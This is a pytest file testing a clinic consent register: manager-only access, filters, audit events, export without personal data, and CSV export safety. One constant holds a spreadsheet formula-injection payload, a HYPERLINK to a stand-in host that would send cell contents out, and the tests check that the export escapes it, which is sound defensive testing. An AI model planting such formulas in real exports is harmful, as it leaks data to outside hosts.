"""The consent register for managers: metadata only, filtered, audited, exported safely."""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from datetime import date, timedelta

import pytest
from sqlalchemy import select

from partnercontact.audit.models import AuditEvent
from partnercontact.auth.models import User
from partnercontact.client_side.cases.ending import end_episode
from partnercontact.client_side.cases.service import register_client
from partnercontact.client_side.consent.errors import ConsentInvalid
from partnercontact.client_side.consent.models import Consent
from partnercontact.client_side.consent.register import (
    RegisterFilters,
    register_detail,
    register_rows,
)
from partnercontact.client_side.consent.register_export import headers, register_csv
from partnercontact.client_side.consent.register_labels import STATE_LABELS
from partnercontact.client_side.consent.schemas import load_register_filters
from partnercontact.client_side.consent.service import record_refusal, withdraw_consent
from partnercontact.clock import FixedClock
from partnercontact.crypto.service import shred_digest
from partnercontact.db import db
from partnercontact.errors import Forbidden, NotFound
from tests.cases_built import attach_pdf, consent_of
from tests.consent.register_files import csv_records, headers_in
from tests.factories import Account, Factory
from tests.helpers import log_in, text_of

FORMULA_PLACE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'


def _personal_id(birth: str, serial: str) -> str:
    """A personal identity number with a correct check digit (``birth`` is YYYYMMDD)."""
    digits = birth[2:] + serial
    total = 0
    for index, char in enumerate(digits):
        value = int(char) * (2 if index % 2 == 0 else 1)
        total += value - 9 if value > 9 else value
    return f"{birth}-{serial}{(10 - total % 10) % 10}"


@dataclass
class Person:
    """Unique marker strings for one invented client, to assert they never show."""

    name: str
    personal_id: str
    phone: str

    @property
    def markers(self) -> list[str]:
        digits = self.personal_id.replace("-", "")
        return [
            self.name,
            self.name.split()[0],
            self.name.split()[1],
            digits,
            self.personal_id,
            self.phone,
            self.phone[1:],
            "+46" + self.phone[1:],
        ]


PEOPLE = [
    Person(f"Qzvarkel{letter} Markörsson{letter}", _personal_id(birth, "123"), phone)
    for letter, birth, phone in [
        ("A", "19780315", "0735551901"),
        ("B", "19811122", "0735551902"),
        ("C", "19690704", "0735551903"),
        ("D", "19920229", "0735551904"),
        ("E", "19850930", "0735551905"),
    ]
]


@dataclass
class Register:
    """The clinic's register as built: which consent is which, and the people behind it."""

    treater: Account
    manager: Account
    signed: Consent  # given, signed copy attached, signed day 0
    pending: Consent  # given, written, no copy yet, signed day 5
    withdrawn: Consent  # given day 0, withdrawn day 10
    refused: Consent  # refused day 10, treatment continues
    version_two: Consent  # given on form version 2, day 10
    client_ids: list[uuid.UUID]


def _client(treater: User, person: Person) -> uuid.UUID:
    client = register_client(
        treater,
        name=person.name,
        personal_id=person.personal_id,
        phone=person.phone,
        language="sv",
    )
    db.session.commit()
    return client.id


@pytest.fixture
def built(factory: Factory, clock: FixedClock) -> Register:
    treater = factory.client_treater()
    manager = factory.manager()
    user = treater.user
    ids = [_client(user, person) for person in PEOPLE]
    day0 = clock.now().date()

    signed = consent_of(
        user, ids[0], clock, signed_on=day0, scopes=["contact_letter", "tell_when_ended"]
    )
    attach_pdf(user, ids[0], signed)
    withdrawn = consent_of(
        user, ids[2], clock, signed_on=day0, scopes=["contact_phone"], place=FORMULA_PLACE
    )

    clock.advance(days=5)
    pending = consent_of(user, ids[1], clock, signed_on=clock.now().date(), scopes=["contact_sms"])

    clock.advance(days=5)
    day10 = clock.now().date()
    withdraw_consent(user, ids[2], withdrawn.id, withdrawn_on=day10)
    db.session.commit()
    refused = record_refusal(
        user,
        ids[3],
        language="sv",
        place="Lindvik",
        refused_on=day10,
        treatment_continues=True,
        team_decided_on=day10,
    )
    db.session.commit()
    version_two = consent_of(
        user,
        ids[4],
        clock,
        signed_on=day10,
        scopes=["contact_letter", "contact_sms", "tell_in_treatment"],
    )
    # Only version 1 of the form exists in consents/; this record stands for one given
    # while a later version was in force.
    version_two.form_version = 2
    db.session.commit()
    return Register(treater, manager, signed, pending, withdrawn, refused, version_two, ids)


def _ids(rows) -> set[uuid.UUID]:
    return {row.consent_id for row in rows}


def _events(action: str) -> list[AuditEvent]:
    db.session.rollback()
    return list(
        db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.seq)
        )
    )


# --- the service ---------------------------------------------------------------------------


def test_every_consent_of_the_clinic_is_listed_with_its_state(built: Register) -> None:
    rows = {row.consent_id: row for row in register_rows(built.manager.user, RegisterFilters())}
    assert {consent_id: row.state for consent_id, row in rows.items()} == {
        built.signed.id: "given",
        built.pending.id: "signature_pending",
        built.withdrawn.id: "withdrawn",
        built.refused.id: "refused",
        built.version_two.id: "signature_pending",
    }
    signed = rows[built.signed.id]
    assert signed.case_reference == built.signed.episode_id.hex[:8]
    assert signed.attested_by == built.treater.username
    assert signed.scopes == ("contact_letter", "tell_when_ended")
    assert (signed.form_version, signed.form_language, signed.form_of_consent) == (
        1,
        "sv",
        "written",
    )
    assert signed.document == "attached" and signed.document_attached_at is not None
    assert rows[built.pending.id].document == "pending"
    withdrawn = rows[built.withdrawn.id]
    assert withdrawn.withdrawn_on == built.withdrawn.withdrawn_on
    assert withdrawn.withdrawn_by == built.treater.username and withdrawn.document == "none"
    refused = rows[built.refused.id]
    assert refused.document == "not_applicable"
    assert refused.treatment_continues is True and refused.team_decided_on is not None
    assert rows[built.version_two.id].form_version == 2


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (RegisterFilters(state="given"), {"signed"}),
        (RegisterFilters(state="signature_pending"), {"pending", "version_two"}),
        (RegisterFilters(state="withdrawn"), {"withdrawn"}),
        (RegisterFilters(state="refused"), {"refused"}),
        (RegisterFilters(version=2), {"version_two"}),
        (RegisterFilters(version=1, state="signature_pending"), {"pending"}),
        (RegisterFilters(scopes=frozenset({"contact_sms"})), {"pending", "version_two"}),
        (
            RegisterFilters(scopes=frozenset({"contact_letter", "tell_when_ended"})),
            {"signed"},
        ),
        (RegisterFilters(scopes=frozenset({"contact_phone"})), {"withdrawn"}),
    ],
)
def test_filters_by_state_version_and_scopes(built: Register, filters, expected) -> None:
    rows = register_rows(built.manager.user, filters)
    assert _ids(rows) == {getattr(built, name).id for name in expected}


def test_the_period_filters_on_the_signing_date_inclusively(built: Register, clock) -> None:
    day10 = clock.now().date()
    day5, day0 = day10 - timedelta(days=5), day10 - timedelta(days=10)
    manager = built.manager.user
    assert _ids(register_rows(manager, RegisterFilters(signed_to=day0))) == {
        built.signed.id,
        built.withdrawn.id,
    }
    assert _ids(register_rows(manager, RegisterFilters(signed_from=day5, signed_to=day5))) == {
        built.pending.id
    }
    assert _ids(register_rows(manager, RegisterFilters(signed_from=day10))) == {
        built.refused.id,
        built.version_two.id,
    }
    assert register_rows(manager, RegisterFilters(signed_from=day10 + timedelta(days=1))) == []


def test_a_manager_of_another_clinic_sees_nothing_of_this_clinic(
    built: Register, factory: Factory
) -> None:
    other = factory.manager(clinic=factory.clinic()).user
    assert register_rows(other, RegisterFilters()) == []
    with pytest.raises(NotFound):
        register_detail(other, built.signed.id)
    assert csv_records(register_csv(other, RegisterFilters())) == (headers(), [])


@pytest.mark.parametrize("role", ["client_treater", "partner_treater", "admin"])
def test_only_managers_may_read_the_register(built: Register, factory: Factory, role) -> None:
    actor = getattr(factory, role)().user
    with pytest.raises(Forbidden):
        register_rows(actor, RegisterFilters())
    with pytest.raises(Forbidden):
        register_detail(actor, built.signed.id)
    with pytest.raises(Forbidden):
        register_csv(actor, RegisterFilters())


def test_a_disabled_manager_is_refused(built: Register, clock) -> None:
    built.manager.user.disabled_at = clock.now()
    with pytest.raises(Forbidden):
        register_rows(built.manager.user, RegisterFilters())


@pytest.mark.parametrize(
    ("values", "field"),
    [
        ({"signed_from": "2026-13-01"}, "signed_from"),
        ({"signed_to": "igår"}, "signed_to"),
        ({"signed_from": "2026-02-01", "signed_to": "2026-01-01"}, "signed_to"),
        ({"state": "revoked"}, "state"),
        ({"version": "two"}, "version"),
        ({"version": "1.5"}, "version"),
        ({"version": "0"}, "version"),
        ({"scopes": ["contact_fax"]}, "scopes"),
        ({"client_name": "x"}, "client_name"),
    ],
)
def test_bad_filters_are_refused_naming_the_field(values, field) -> None:
    with pytest.raises(ConsentInvalid) as refused:
        load_register_filters(values)
    assert refused.value.field == field


def test_filters_are_read_from_query_parameters() -> None:
    filters = load_register_filters(
        {
            "signed_from": "2026-01-01",
            "signed_to": "",
            "state": "withdrawn",
            "version": "any",
            "scopes": ["contact_sms", "tell_when_ended"],
        }
    )
    assert filters == RegisterFilters(
        signed_from=date(2026, 1, 1),
        state="withdrawn",
        scopes=frozenset({"contact_sms", "tell_when_ended"}),
    )
    assert load_register_filters({"version": "2"}).version == 2


def test_the_service_checks_filters_built_in_code_too(built: Register) -> None:
    for filters, field in [
        (RegisterFilters(state="bogus"), "state"),
        (RegisterFilters(signed_from=date(2026, 2, 1), signed_to=date(2026, 1, 1)), "signed_to"),
        (RegisterFilters(scopes=frozenset({"contact_fax"})), "scopes"),
    ]:
        with pytest.raises(ConsentInvalid) as refused:
            register_rows(built.manager.user, filters)
        assert refused.value.field == field


def test_listing_detail_and_export_are_each_audited(built: Register) -> None:
    manager = built.manager.user
    register_rows(manager, RegisterFilters())
    register_detail(manager, built.signed.id)
    register_csv(manager, RegisterFilters())
    db.session.commit()
    viewed = _events("consent_register.viewed")
    assert [(e.resource_type, e.resource_id) for e in viewed] == [
        ("consent_register", None),
        ("consent", str(built.signed.id)),
    ]
    assert all(e.actor_id == built.manager.user.id for e in viewed)
    exported = _events("consent_register.exported")
    assert [(e.resource_type, e.actor_id) for e in exported] == [
        ("consent_register", built.manager.user.id)
    ]


def test_the_csv_escapes_cells_a_spreadsheet_would_run(built: Register) -> None:
    header, records = csv_records(register_csv(built.manager.user, RegisterFilters()))
    assert header == headers()
    assert len(records) == 5
    withdrawn = next(r for r in records if r["consent_id"] == str(built.withdrawn.id))
    assert withdrawn["place"] == "'" + FORMULA_PLACE
    assert withdrawn["state"] == str(STATE_LABELS["withdrawn"])
    assert withdrawn["withdrawn_on"] == built.withdrawn.withdrawn_on.isoformat()
    assert withdrawn["signed_on"] == built.withdrawn.signed_on.isoformat()
    assert (withdrawn["contact_phone"], withdrawn["contact_letter"]) == ("1", "0")
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in records for cell in r.values()
    )


# --- the pages -----------------------------------------------------------------------------


def _as_manager(client, built: Register, clock) -> None:
    log_in(client, built.manager, clock)


def _assert_no_personal_data(body: str) -> None:
    for person in PEOPLE:
        for marker in person.markers:
            assert marker not in body, marker


def test_the_register_pages_and_export_show_no_client_identity(
    client, built: Register, clock
) -> None:
    _as_manager(client, built, clock)
    listing = client.get("/management/consents")
    assert listing.status_code == 200
    body = text_of(listing)
    for consent in (built.signed, built.pending, built.withdrawn, built.refused):
        assert consent.episode_id.hex[:8] in body
        assert f"/management/consents/{consent.id}" in body
    _assert_no_personal_data(body)
    for consent in (built.signed, built.withdrawn, built.refused, built.version_two):
        detail = client.get(f"/management/consents/{consent.id}")
        assert detail.status_code == 200
        _assert_no_personal_data(text_of(detail))
    export = client.get("/management/consents.csv")
    assert export.status_code == 200
    _assert_no_personal_data(text_of(export))


def test_the_list_filters_and_links_to_an_export_with_the_same_filters(
    client, built: Register, clock
) -> None:
    _as_manager(client, built, clock)
    response = client.get("/management/consents?state=signature_pending&version=1")
    body = text_of(response)
    assert response.status_code == 200
    assert built.pending.episode_id.hex[:8] in body
    for other in (built.signed, built.withdrawn, built.refused, built.version_two):
        assert f"/management/consents/{other.id}" not in body
    assert 'value="1"' in body
    assert "/management/consents.csv?state=signature_pending&amp;version=1" in body
    export = client.get("/management/consents.csv?state=signature_pending&version=1")
    _header, records = csv_records(text_of(export))
    assert [r["consent_id"] for r in records] == [str(built.pending.id)]


def test_the_export_is_an_uncached_utf8_attachment(app, client, built: Register, clock) -> None:
    _as_manager(client, built, clock)
    response = client.get("/management/consents.csv?scopes=contact_phone")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="samtyckesregister.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    header, records = csv_records(text_of(response))
    assert header == headers_in(app, "sv")
    assert [record["consent_id"] for record in records] == [str(built.withdrawn.id)]
    assert ",\"'=HYPERLINK(" in text_of(response).splitlines()[1]
    assert [e.resource_type for e in _events("consent_register.exported")] == ["consent_register"]


@pytest.mark.parametrize(
    ("query", "field", "kept"),
    [
        ("signed_from=2026-13-01", "signed_from", 'value="2026-13-01"'),
        ("signed_from=2026-02-01&signed_to=2026-01-01", "signed_to", 'value="2026-01-01"'),
        ("state=revoked", "state", None),
        ("version=two", "version", 'value="two"'),
        ("scopes=contact_fax", "scopes", None),
    ],
)
def test_a_bad_filter_answers_400_on_its_field_keeping_the_input(
    client, built: Register, clock, query, field, kept
) -> None:
    _as_manager(client, built, clock)
    for path in ("/management/consents", "/management/consents.csv"):
        response = client.get(f"{path}?{query}")
        body = text_of(response)
        assert response.status_code == 400
        assert f'id="{field}-error"' in body
        if kept:
            assert kept in body
        assert f"/management/consents/{built.signed.id}" not in body
    assert _events("consent_register.viewed") == []
    assert _events("consent_register.exported") == []


def test_an_unknown_or_foreign_consent_is_not_found(
    client, built: Register, clock, factory: Factory
) -> None:
    other_clinic = factory.clinic()
    other_treater = factory.client_treater(clinic=other_clinic).user
    foreign = consent_of(other_treater, _client(other_treater, PEOPLE[0]), clock, place="Borta")
    _as_manager(client, built, clock)
    assert client.get(f"/management/consents/{uuid.uuid4()}").status_code == 404
    response = client.get(f"/management/consents/{foreign.id}")
    assert response.status_code == 404 and "Borta" not in text_of(response)
    assert foreign.episode_id.hex[:8] not in text_of(client.get("/management/consents"))


def test_the_detail_shows_the_audit_trail(client, built: Register, clock) -> None:
    _as_manager(client, built, clock)
    body = text_of(client.get(f"/management/consents/{built.withdrawn.id}"))
    # Each entry in words, never as the log's code.
    assert "Samtycke registrerat" in body and "Samtycke återkallat" in body
    assert body.index("Samtycke registrerat") < body.index("Samtycke återkallat")
    assert "consent.recorded" not in body
    assert built.treater.username in body
    # Opening it is in the trail the next time.
    again = text_of(client.get(f"/management/consents/{built.withdrawn.id}"))
    assert "Öppnat i samtyckesregistret" in again and built.manager.username in again


@pytest.mark.parametrize("role", ["client_treater", "partner_treater", "admin"])
def test_other_roles_are_denied_every_register_page(
    client, built: Register, clock, factory: Factory, role
) -> None:
    log_in(client, getattr(factory, role)(), clock)
    for path in (
        "/management/consents",
        f"/management/consents/{built.signed.id}",
        "/management/consents.csv",
    ):
        response = client.get(path)
        # A page about one record answers as if it did not exist.
        assert response.status_code == (404 if str(built.signed.id) in path else 403), path
        assert built.signed.episode_id.hex[:8] not in text_of(response)


def test_the_follow_up_page_links_to_the_register(client, built: Register, clock) -> None:
    _as_manager(client, built, clock)
    assert 'href="/management/consents"' in text_of(client.get("/management/"))


# --- a destroyed signed copy -----------------------------------------------------------------


def test_a_destroyed_copy_shows_destroyed_with_its_rule_and_key_digest(
    client, built: Register, clock
) -> None:
    db.session.rollback()
    key_id = db.session.scalar(select(Consent.document_key_id).where(Consent.id == built.signed.id))
    end_episode(
        built.treater.user, built.client_ids[0], ended_on=clock.now().date(), outcome="dropped_out"
    )
    db.session.commit()
    digest = shred_digest(key_id)

    row = next(
        r
        for r in register_rows(built.manager.user, RegisterFilters())
        if r.consent_id == built.signed.id
    )
    assert row.document == "destroyed" and row.document_destroyed_at is not None
    assert (row.document_destruction_rule, row.document_key_digest) == ("case_end", digest)
    trail = register_detail(built.manager.user, built.signed.id).trail
    assert [entry.action for entry in trail] == [
        "consent.recorded",
        "consent.document_attached",
        "datakey.shredded",
        "consent.document_destroyed",
    ]
    assert {entry.actor for entry in trail} == {built.treater.username}
    db.session.commit()

    _as_manager(client, built, clock)
    body = text_of(client.get(f"/management/consents/{built.signed.id}"))
    # The rule and the trail in words, never as codes.
    assert digest in body and "case_end" not in body and "datakey.shredded" not in body
    assert "Behandlingskontakten avslutades" in body
    assert "Den undertecknade kopians nyckel förstördes" in body
    _header, records = csv_records(text_of(client.get("/management/consents.csv")))
    signed = next(r for r in records if r["consent_id"] == str(built.signed.id))
    assert (signed["document"], signed["document_destruction_rule"]) == (
        "Undertecknad kopia förstörd",
        "Behandlingskontakten avslutades",
    )
    assert signed["document_key_digest"] == digest
